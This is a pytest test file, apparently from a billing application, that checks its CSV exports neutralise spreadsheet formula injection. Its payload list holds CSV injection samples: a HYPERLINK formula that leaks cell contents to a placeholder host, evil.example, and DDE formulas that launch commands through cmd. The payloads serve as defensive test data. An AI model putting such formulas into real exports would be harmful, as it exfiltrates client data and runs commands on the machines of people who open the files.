"""CSV files therabill writes are safe to open in a spreadsheet (issue 14; OWASP "CSV
Injection"): a cell starting with = + - @ tab or CR is prefixed with a quote, every cell
quoted."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from therabill.store.csv_cells import FORMULA_STARTS, safe_cell
from therabill.store.models import Client
from therabill.store.services import Store, admin

# OWASP's own examples of payloads, and the ones the security review wrote into an export.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: click for details")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=["=", "+", "-", "@", "tab", "CR"])
def test_an_export_never_starts_a_cell_with_a_formula(
    practice: Store, tmp_path: Path, payload: str
) -> None:
    with practice.transaction(actor="t") as work:
        client = work.db.query(Client).first()
        assert client is not None
        client.last_name = payload
    with practice.transaction(actor="t") as work:
        admin.export(work=work, out=tmp_path / "out", fmt="csv")
    with (tmp_path / "out" / "clients.csv").open(newline="", encoding="utf-8") as handle:
        text = handle.read()
        handle.seek(0)
        rows = list(csv.DictReader(handle))
    names = [row["last_name"] for row in rows]
    assert "'" + payload in names
    assert not any(name.startswith(FORMULA_STARTS) for name in names)
    assert text.startswith('"id"')  # every cell quoted


@given(st.text())
def test_a_safe_cell_is_the_text_or_the_text_behind_a_quote(text: str) -> None:
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    assert not cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", [-12, 0, 3.5, None], ids=["negative", "zero", "float", "none"])
def test_numbers_are_left_as_numbers(value: object) -> None:
    assert safe_cell(value) == value
